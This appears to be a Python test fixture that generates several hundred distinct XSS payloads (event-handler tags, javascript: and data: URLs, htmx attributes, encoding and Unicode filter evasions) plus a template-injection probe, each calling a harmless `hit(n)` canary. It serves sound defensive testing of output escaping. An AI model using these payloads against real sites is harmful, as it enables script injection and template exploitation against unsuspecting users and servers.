"""Texts that try to run as scripts wherever a page would print them unescaped. Each calls `hit()` with its number."""

from __future__ import annotations

from itertools import product

_CALLS = ("hit({n})", "window['hit']({n})", "top.hit`{n}`", "parent.hit({n})")
_BREAKS = ("", '">', "'>", "</p>", "</title>", "</textarea>", "-->", "</script>", "</style>", "]]>", '"/>', "`>")
_TAGS = (
    "<script>{c}</script>",
    "<img src=x onerror={c}>",
    '<svg onload="{c}">',
    "<svg><script>{c}</script></svg>",
    "<details open ontoggle={c}>",
    "<input autofocus onfocus={c}>",
    '<iframe srcdoc="<script>{c}</script>"></iframe>',
    '<a href="javascript:{c}" autofocus>now</a>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror={c}>",
    "<body onload={c}>",
    "<video><source onerror={c}></video>",
    '<object data="data:text/html,<script>{c}</script>"></object>',
    '<form action="javascript:{c}"><button autofocus>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:{c}">',
    '<base href="javascript:{c}//">',
    '<link rel="stylesheet" href="javascript:{c}">',
    '<div hx-get="/studio/" hx-trigger="load" hx-on:htmx:load="{c}"></div>',
    '<div hx-vals="js:{{x:{c}}}" hx-get="/studio/" hx-trigger="load"></div>',
    "<button data-do=keys autofocus onfocus={c}>x</button>",
)
_OTHERS = (
    '" onmouseover="{c}" x="',
    "' onfocus='{c}' autofocus x='",
    "{{{{ {c} }}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}<script>{c}</script>",
    "${{{c}}}",
    "javascript:{c}",
    "data:text/html,<script>{c}</script>",
    "\u202e<script>{c}</script>",
    "\u2028<script>{c}</script>",
    "<scr\u200bipt>{c}</scr\u200bipt><script>{c}</script>",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}&#60;/script&#62;",
    "%3Cscript%3E{c}%3C/script%3E",
    "\\x3cscript\\x3e{c}\\x3c/script\\x3e",
    "<!--<img src='--><img src=x onerror={c}//'>",
    "<<script>{c}//<</script>",
    "<ScRiPt>{c}</sCrIpT>",
    "<img\tsrc=x\nonerror={c}>",
    "<img src=`x` onerror={c}>",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-",
)


def payloads() -> list[str]:
    """At least 500 of them, all different."""
    shapes = [(brk, tag) for brk, tag in product(_BREAKS, _TAGS)] + [("", other) for other in _OTHERS]
    made = []
    for n, (brk, shape) in enumerate(shapes):
        for call in (_CALLS[n % 4], _CALLS[(n + 1) % 4], _CALLS[(n + 2) % 4]):
            made.append(brk + shape.format(c=call.format(n=len(made))))
    return list(dict.fromkeys(made))
